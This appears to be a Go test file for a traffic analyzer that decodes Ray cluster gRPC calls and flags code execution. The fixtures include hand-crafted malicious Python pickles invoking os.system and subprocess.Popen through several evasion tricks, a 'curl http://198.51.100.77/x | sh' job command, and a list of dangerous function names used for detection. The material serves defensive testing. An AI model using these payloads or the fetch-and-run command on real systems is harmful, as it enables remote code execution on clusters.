package raygrpc

import (
	"encoding/binary"
	"encoding/json"
	"net/netip"
	"reflect"
	"strings"
	"testing"

	"github.com/raytap/raytap/capture"
	"github.com/raytap/raytap/decoders/http2"
)

// ld is a length-delimited field, num a varint one.
func ld(id int, s string) string {
	b := binary.AppendUvarint(nil, uint64(id)<<3|2)
	return string(binary.AppendUvarint(b, uint64(len(s)))) + s
}

func num(id int, n uint64) string {
	return string(binary.AppendUvarint(binary.AppendUvarint(nil, uint64(id)<<3), n))
}

// call is one over a connection that was seen from its beginning.
func call(path string, req ...string) *http2.Call {
	c := &http2.Call{At: capture.At{Time: 1e18, Packet: 7}, GRPC: true, Path: path, GRPCStatus: 0, HTTPStatus: 200, Done: true,
		Flow: &capture.Flow{UID: "C1", Orig: netip.MustParseAddrPort("10.20.0.20:40000"), Resp: netip.MustParseAddrPort("10.20.0.10:6379")}}
	if i := strings.LastIndexByte(path, '/'); i > 0 {
		c.Service, c.Method = path[1:i], path[i+1:]
	}
	for i, r := range req {
		c.RequestMessages = append(c.RequestMessages, http2.Message{At: capture.At{Time: 1e18 + 1e9, Packet: uint64(8 + i)}, Len: len(r), Data: []byte(r)})
	}
	return c
}

func answered(c *http2.Call, resp ...string) *http2.Call {
	for _, r := range resp {
		c.ResponseMessages = append(c.ResponseMessages, http2.Message{At: capture.At{Packet: 20}, Len: len(r), Data: []byte(r)})
		c.ResponseCount++
	}
	return c
}

const (
	kvPut    = "/ray.rpc.InternalKVGcsService/InternalKVPut"
	kvGet    = "/ray.rpc.InternalKVGcsService/InternalKVGet"
	datapath = "/ray.rpc.RayletDataStreamer/Datapath"
	node     = "\xad\x07\x34\xfe\xc0\x8e\x36\xa9\x20\xa2\xe5\xf5\xb9\xe1\x2d\x1e\x4a\x8b\xc1\xa0\x60\x64\x3f\xdc\x93\x61\x24\x1f"
)

// Pickles, by hand.
var (
	jobConfig  = "\x80\x04\x95\x20\x00\x00\x00\x00\x00\x00\x00\x8c\x0eray.job_config\x94\x8c\x09JobConfig\x94\x93\x94)\x81\x94}\x94b."
	oldSystem  = "cos\nsystem\n(S'id'\ntR."
	instSystem = "(S'id'\nios\nsystem\n."
	byGetattr  = "\x80\x04\x8c\x08builtins\x8c\x07getattr\x93\x8c\x09importlib\x8c\x0dimport_module\x93\x8c\x02os\x85R\x8c\x06system\x86R\x8c\x02id\x85R."
	byMemo     = "\x80\x02\x8c\x02osq\x00\x8c\x06systemq\x0000h\x00." // popped: nothing is called
)

func TestPicklesNameWhatTheyCall(t *testing.T) {
	for _, x := range []struct {
		name, b string
		calls   []string
	}{
		{"what Ray sends", jobConfig, []string{"ray.job_config.JobConfig"}},
		{"os.system by its real name", "\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.", []string{"posix.system"}},
		{"protocol 0", oldSystem, []string{"os.system"}},
		{"INST", instSystem, []string{"os.system"}},
		{"OBJ", "(cos\nsystem\nS'id'\no.", []string{"os.system"}},
		{"NEWOBJ", "\x80\x02csubprocess\nPopen\nS'id'\n\x85\x81.", []string{"subprocess.Popen"}},
		{"NEWOBJ_EX", "\x80\x04csubprocess\nPopen\nS'id'\n\x85}\x92.", []string{"subprocess.Popen"}},
		{"getattr of an imported module", byGetattr, []string{"importlib.import_module", "os.system"}},
		{"names from the memo", "\x80\x04\x8c\x06system\x94\x8c\x02os\x94h\x01h\x00\x93\x8c\x02id\x85R.", []string{"os.system"}},
		{"a global from the memo", "\x80\x02cos\nsystem\nq\x050S'x'\n0h\x05S'id'\n\x85R.", []string{"os.system"}},
		{"LONG_BINPUT and LONG_BINGET", "\x80\x02cos\nsystem\nr\x00\x01\x00\x000j\x00\x01\x00\x00S'id'\n\x85R.", []string{"os.system"}},
		{"text PUT and GET", "cos\nsystem\np300\n0g300\n(S'id'\ntR.", []string{"os.system"}},
		{"DUP", "\x80\x02cos\nsystem\n20S'id'\n\x85R.", []string{"os.system"}},
		{"a pickle in bytes of a pickle", "\x80\x04C\x17\x80\x02cos\nsystem\nS'id'\n\x85R....N.", []string{"os.system"}},
		{"named, and not called", "\x80\x04\x8c\x02os\x8c\x06system\x93.", nil},
		{"texts alone", "\x80\x04\x8c\x02os\x8c\x06system\x86.", nil},
		{"behind the end", "\x80\x04N.cos\nsystem\n(S'id'\ntR.", nil},
	} {
		if p := readPickle([]byte(x.b)); !reflect.DeepEqual(p.Calls, x.calls) {
			t.Errorf("%s: calls %v of %v", x.name, p.Calls, p.Globals)
		}
	}
}

func TestPicklesThatAreBroken(t *testing.T) {
	for name, b := range map[string]string{
		"empty stack":     "\x80\x04RRRR\x93\x81otdsu\x85\x86\x87.",
		"no end":          "\x80\x04N",
		"length too long": "\x80\x04\x8d\xff\xff\xff\xff\xff\xff\xff\xffabc",
		"no line end":     "\x80\x04cos",
		"unknown opcode":  "\x80\x04\xff",
		"many marks":      "\x80\x04" + strings.Repeat("(", 1<<17),
		"many memos":      "\x80\x04" + strings.Repeat("N\x94", 1<<17) + ".",
	} {
		p := readPickle([]byte(b))
		if !p.Broken && name != "empty stack" {
			t.Errorf("%s: not noticed", name)
		}
		if len(p.Calls) > 0 {
			t.Errorf("%s: calls %v", name, p.Calls)
		}
	}
}

func TestDangerousNames(t *testing.T) {
	for name, want := range map[string]bool{
		"os.system": true, "posix.system": true, "os.execv": true, "subprocess.Popen": true, "builtins.eval": true, "builtins.exec": true,
		"__builtin__.eval": true, "socket.socket": true, "pty.spawn": true, "pickle.loads": true, "runpy.run_path": true,
		"subprocess.PIPE": false, "os.getcwd": false, "os.path.join": false, "ray.job_config.JobConfig": false, "builtins.list": false,
		"builtins.getattr": false, "collections.OrderedDict": false, "ray.cloudpickle.cloudpickle._make_function": false, "numpy.core.multiarray._reconstruct": false,
		"system": false, "": false,
	} {
		if got := danger(name) != ""; got != want {
			t.Errorf("%s: %v", name, got)
		}
	}
}

func TestCallsByPath(t *testing.T) {
	task := num(1, 0) + ld(4, ld(2, ld(1, "mod")+ld(3, "fn"))) + ld(5, "\x08\x00\x00\x00") + ld(6, strings.Repeat("t", 24))
	for _, x := range []struct {
		name string
		c    *http2.Call
		want func(*Call) bool
	}{
		{"a key that workers load code from", answered(call(kvPut, ld(1, "RemoteFunction:08000000:\xcc\x01")+ld(2, "v")+num(3, 1)+ld(4, "fun")), num(2, 1)),
			func(r *Call) bool {
				return r.Service == GCS && r.Class == Exec && r.Outcome == Executed && r.Namespace == "fun" && r.Key == `RemoteFunction:08000000:\xcc\x01` && r.ValueLen == 1
			}},
		{"any other key", call(kvPut, ld(1, "x")+ld(2, "v")), func(r *Call) bool { return r.Class == Write && r.Key == "x" }},
		{"a status in the reply", answered(call(kvPut, ld(1, "x")), ld(1, num(1, 17)+ld(2, "Failed to find the key"))),
			func(r *Call) bool { return r.Outcome == Failed && r.Status == "Failed to find the key" }},
		{"the cluster's metadata", answered(call(kvGet, ld(1, "CLUSTER_METADATA")+ld(2, "cluster")), ld(1, "")+ld(2, `{"ray_version": "2.60.0", "python_version": "3.11.7"}`)),
			func(r *Call) bool {
				return r.Class == State && r.Version == "2.60.0" && r.Python == "3.11.7" && r.Outcome == Answered
			}},
		{"the session", answered(call(kvGet, ld(1, "session_name")+ld(2, "session")), ld(1, "")+ld(2, "session_2026-11-23_16-35-51_313022_7988")),
			func(r *Call) bool { return r.Session == "session_2026-11-23_16-35-51_313022_7988" }},
		{"the nodes", answered(call("/ray.rpc.NodeInfoGcsService/GetAllNodeInfo", ""), ld(1, "")+
			ld(2, ld(1, node)+ld(2, "10.20.0.10")+ld(3, "/tmp/ray/session_2026-11-23_16-35-51_313022_7988/sockets/raylet")+num(5, 46281)+num(9, 99999)+num(25, 1))+
			ld(2, ld(1, node)+ld(2, "10.20.0.12")+num(7, 1))+ld(2, ld(1, "short")+ld(2, "10.20.0.13"))),
			func(r *Call) bool {
				return len(r.Nodes) == 2 && r.Nodes[0].Head && len(r.Nodes[0].Ports) == 1 && r.Nodes[1].Dead && r.Session != ""
			}},
		{"where the dashboard is", answered(call("/ray.rpc.RayletDriver/ClusterInfo", num(1, 7)), num(1, 7)+ld(2, `{"dashboard_url": "10.20.0.10:8265"}`)),
			func(r *Call) bool { return r.Dashboard.String() == "10.20.0.10:8265" }},
		{"versions in a Datapath", answered(call(datapath, num(1, 2)+ld(5, "")), num(1, 2)+ld(5, num(1, 1)+ld(2, "2.9.3")+ld(3, strings.Repeat("a1", 20))+ld(4, "3.11.7"))),
			func(r *Call) bool { return r.Version == "2.9.3" && r.Python == "3.11.7" && len(r.Commit) == 40 }},
		{"code that is read", call(kvGet, ld(1, "gcs://_ray_pkg_4b9ea2decce13836.zip")), func(r *Call) bool { return r.Class == Secret }},
		{"the cluster's id", answered(call("/ray.rpc.NodeInfoGcsService/GetClusterId", ""), ld(1, "")+ld(2, node)),
			func(r *Call) bool {
				return len(r.ClusterID) == 56 && strings.HasPrefix(r.ClusterID, "ad0734fe") && r.Class == Info
			}},
		{"a node joins", call("/ray.rpc.NodeInfoGcsService/RegisterNode", ld(1, ld(1, node)+ld(2, "203.0.113.66")+num(5, 38231)+ld(8, "evil")+num(25, 1)+num(31, 52365))),
			func(r *Call) bool {
				return r.Node.String() == "203.0.113.66" && r.Host == "evil" && r.Head && strings.HasPrefix(r.NodeID, "ad0734fe")
			}},
		{"a job is added", call("/ray.rpc.JobInfoGcsService/AddJob", ld(1, ld(1, "\x09\x00\x00\x00")+ld(4, "10.20.0.20")+ld(9, "curl http://198.51.100.77/x | sh"))),
			func(r *Call) bool {
				return r.JobID == "09000000" && r.Driver.String() == "10.20.0.20" && len(r.Commands) == 1
			}},
		{"a task", call("/ray.rpc.CoreWorkerService/PushTask", ld(1, node)+ld(2, task+ld(11, ld(2, oldSystem)))),
			func(r *Call) bool {
				return r.Service == Worker && r.Function == "mod.fn" && r.JobID == "08000000" && reflect.DeepEqual(r.Calls, []string{"os.system"})
			}},
		{"a profile with a command in it", call("/ray.rpc.ReporterService/CpuProfiling", num(1, 1)+ld(2, "`id`")),
			func(r *Call) bool { return r.Service == Agent && r.Class == Exec && len(r.Commands) == 1 }},
		{"Ray Client begins", answered(call(datapath, num(1, 1)+ld(6, ld(1, jobConfig)+ld(2, `{"runtime_env": {"working_dir": "http://198.51.100.77/p.zip"}}`))), num(1, 1)+ld(6, num(1, 1))),
			func(r *Call) bool {
				return r.Class == Exec && r.Outcome == Executed && reflect.DeepEqual(r.Operations, []string{"init"}) && len(r.URIs) == 1 && len(r.Calls) == 0 && r.Packet == 8
			}},
		{"Ray Client is refused", answered(call(datapath, num(1, 1)+ld(6, ld(1, jobConfig))), num(1, 1)+ld(6, ld(2, "Starting Ray client server failed"))),
			func(r *Call) bool { return r.Outcome == Rejected && strings.HasPrefix(r.Status, "Starting") }},
		{"a pickle that runs while it is loaded, in init", call(datapath, num(1, 1)+ld(6, ld(1, oldSystem))),
			func(r *Call) bool { return reflect.DeepEqual(r.Calls, []string{"os.system"}) }},
		{"a service that is not known yet", call("/ray.rpc.NewThing/DoIt", ""), func(r *Call) bool { return r.Service == Other && r.Class == Write }},
		{"no token", func() *http2.Call {
			c := call(kvGet, "")
			c.GRPCStatus, c.GRPCMessage = 16, "InvalidAuthToken: Authentication token is missing or incorrect"
			return c
		}(), func(r *Call) bool { return r.Outcome == NoToken && r.Auth == "none" }},
		{"another cluster", func() *http2.Call {
			c := call(kvGet, "")
			c.GRPCStatus, c.GRPCMessage = 16, "WrongClusterID"
			return c
		}(), func(r *Call) bool { return r.Outcome == Rejected }},
		{"no answer", func() *http2.Call { c := call(kvPut, ld(1, "x")); c.GRPCStatus = -1; c.HTTPStatus = 0; return c }(),
			func(r *Call) bool { return r.Outcome == Unseen }},
	} {
		r := Interpret(x.c)
		if r == nil || !x.want(r) {
			b, _ := json.Marshal(r)
			t.Errorf("%s: %s", x.name, b)
		}
	}
	for _, path := range []string{"/grpc.health.v1.Health/Check", "/etcdserverpb.KV/Range", "/ray", "/rayx.rpc.A/B", ""} {
		if r := Interpret(call(path, "\x0a\x01k")); r != nil {
			t.Errorf("%q is not Ray's: %+v", path, r)
		}
		if n := Keep(call(path)); path != "" && n != 0 {
			t.Errorf("%q: %d bytes are wanted", path, n)
		}
	}
}

func TestTokenIsNeverKept(t *testing.T) {
	const secret = "3f786850e387550fdab836ed7e6dc881de23001b3f786850e387550fdab836ed"
	c := call(kvGet, "")
	c.Metadata = []http2.Field{{Name: "authorization", Value: "Bearer " + secret}}
	r := Interpret(c)
	if r.Auth != "bearer" || len(r.TokenHash) != 16 {
		t.Errorf("%q %q", r.Auth, r.TokenHash)
	}
	r.GRPC = nil
	if b, _ := json.Marshal(r); strings.Contains(string(b), secret[:8]) {
		t.Errorf("the token is in %s", b)
	}
}

// report is the beginning of what an agent reports.
const report = `{"now": 1795453685.354776, "hostname": "vm", "ip": "10.20.0.11", "cpu": 79.2, "cmdline": ["/tmp/ray/session_2026-11-23_17-06-13_181410_16389/x"]`

func TestAgentsReportTheirNode(t *testing.T) {
	id := strings.Repeat("fa", 28)
	r := Interpret(call("/ray.rpc.InternalPubSubGcsService/GcsPublish", ld(1, num(1, 8)+ld(2, "RAY_REPORTER:"+id)+ld(12, ld(1, report)))))
	if r == nil || len(r.Nodes) != 1 || r.Nodes[0].Addr.String() != "10.20.0.11" || r.Nodes[0].Host != "vm" || r.Nodes[0].ID != id ||
		r.Session != "session_2026-11-23_17-06-13_181410_16389" {
		t.Errorf("%+v", r)
	}
	r = Interpret(call("/ray.rpc.InternalPubSubGcsService/GcsPublish", ld(1, num(1, 8)+ld(2, "RAY_REPORTER:"+id)+ld(12, ld(1, `{"ip": "::::::", "hostname": "<a>"}`)))))
	if r == nil || len(r.Nodes) != 0 {
		t.Errorf("an address that is none: %+v", r)
	}
}

// A path from before the capture.
func TestInferenceNamesOnlyWhatIsUnmistakable(t *testing.T) {
	lost := func(meta map[string]string, req ...string) *http2.Call {
		c := call("", req...)
		c.Mid, c.Unknown = true, 3
		for _, k := range []string{"client_id", "reconnecting", "ray_cluster_id"} {
			if v := meta[k]; v != "" {
				c.Metadata = append(c.Metadata, http2.Field{Name: k, Value: v})
			}
		}
		return c
	}
	id32, id56 := strings.Repeat("5d", 16), strings.Repeat("fa", 28)
	for _, x := range []struct {
		name string
		c    *http2.Call
		want string // service and method; "" is nil
	}{
		{"task of a client", lost(nil, num(1, 4)+ld(10, ld(2, "run")+ld(6, id32))), "client RayletDataStreamer/Datapath"},
		{"put of a client", lost(nil, num(1, 4)+ld(3, ld(1, jobConfig))), "client RayletDataStreamer/Datapath"},
		{"stream of a client, by metadata", lost(map[string]string{"client_id": id32, "reconnecting": "False"}), "client RayletDataStreamer/Datapath"},
		{"call of a client", lost(map[string]string{"client_id": id32}, num(1, 7)), "client "},
		{"export of a function", lost(nil, ld(1, "RemoteFunction:0")+ld(2, "v")+num(3, 1)+ld(4, "fun")), "gcs InternalKVGcsService/InternalKVPut"},
		{"status is read", lost(nil, ld(1, "__autoscaling_status")), "gcs InternalKVGcsService/InternalKVGet"},
		{"a node joins", lost(nil, ld(1, ld(1, node)+ld(2, "10.20.0.11")+num(5, 1234))), "gcs NodeInfoGcsService/RegisterNode"},
		{"something of the GCS", lost(map[string]string{"ray_cluster_id": id56}, num(1, 1)), "gcs "},
		{"what an agent reports", lost(nil, ld(1, num(1, 8)+ld(2, "RAY_REPORTER:"+id56)+ld(12, ld(1, report)))), "gcs GcsPublish"},
		{"the same of 2.9", lost(nil, ld(1, num(1, 8)+ld(2, "RAY_REPORTER:"+id56)+ld(15, ld(1, report)))), "gcs GcsPublish"},
		{"a report of somebody else", lost(nil, ld(1, num(1, 8)+ld(2, "RAY_REPORTER:x")+ld(12, ld(1, report)))), ""},
		{"what a raylet has left", answered(lost(nil, ""), ld(1, ld(1, node)+ld(2, ld(1, "CPU")+"\x11\x00\x00\x00\x00\x00\x00\x10\x40"))), "raylet NodeManagerService/GetResourceLoad"},
		{"another list of 28 bytes", answered(lost(nil, ""), ld(1, ld(1, node)+ld(2, ld(1, "cpu")))), ""},
		{"two texts", lost(nil, ld(1, "key")+ld(2, "value")), ""},
		{"etcd's put", lost(nil, ld(1, "/registry/pods/x")+ld(2, "value")+num(3, 1)), ""},
		{"an empty message", lost(nil, ""), ""},
		{"numbers", lost(nil, num(1, 1)+num(2, 2)), ""},
		{"no protobuf", lost(nil, "\xff\xff\xff\xff"), ""},
		{"a client id of another length", lost(map[string]string{"client_id": "web"}, num(1, 1)), ""},
	} {
		got := ""
		if r := Interpret(x.c); r != nil {
			if got = string(r.Service) + " " + r.Method; !r.Inferred && x.c.Path == "" && r.Method != "" {
				t.Errorf("%s: not marked", x.name)
			}
		}
		if got != x.want {
			t.Errorf("%s: %q, want %q", x.name, got, x.want)
		}
	}
}

func TestPartsThatOnlyReadAreNothing(t *testing.T) {
	for op, want := range map[string]bool{ld(2, ld(4, "x")): false, ld(4, ""): false, ld(10, ld(2, "f")): true} {
		c := call(datapath, num(1, 9)+op)
		c.Live = true
		if got := Interpret(c) != nil; got != want {
			t.Errorf("%x: %v", op, got)
		}
	}
}

func FuzzInterpret(f *testing.F) {
	f.Add(kvPut, []byte(ld(1, "k")+ld(2, "v")+num(3, 1)+ld(4, "fun")), []byte(num(2, 1)))
	f.Add(datapath, []byte(num(1, 1)+ld(6, ld(1, jobConfig))), []byte(num(1, 1)+ld(6, num(1, 1))))
	f.Add("/ray.rpc.CoreWorkerService/PushTask", []byte(ld(1, node)+ld(2, ld(4, ld(2, ld(1, "m"))))), []byte(""))
	f.Add("", []byte(ld(1, ld(1, node)+ld(2, "10.20.0.11")+num(5, 1))), []byte(""))
	f.Fuzz(func(t *testing.T, path string, req, resp []byte) {
		c := answered(call(path, string(req)), string(resp))
		c.RequestMessages[0].Cut = len(req)%2 == 0
		r := Interpret(c)
		if r == nil {
			return
		}
		if len(r.Operations) > maxOpsOf || len(r.Commands) > maxCmds || len(r.Globals) > maxList || len(r.Function) > 3*maxValue || len(r.Key) > 3*maxValue {
			t.Fatalf("over a bound: %+v", r)
		}
	})
}

func FuzzPickle(f *testing.F) {
	for _, s := range []string{jobConfig, oldSystem, instSystem, byGetattr, byMemo} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		p := readPickle(b)
		if len(p.Globals) > maxGlobals || len(p.Calls) > maxGlobals || len(p.Strings) > maxStrings || p.ops > maxOps+1 {
			t.Fatalf("over a bound: %d %d %d %d", len(p.Globals), len(p.Calls), len(p.Strings), p.ops)
		}
		p.inCode()
	})
}
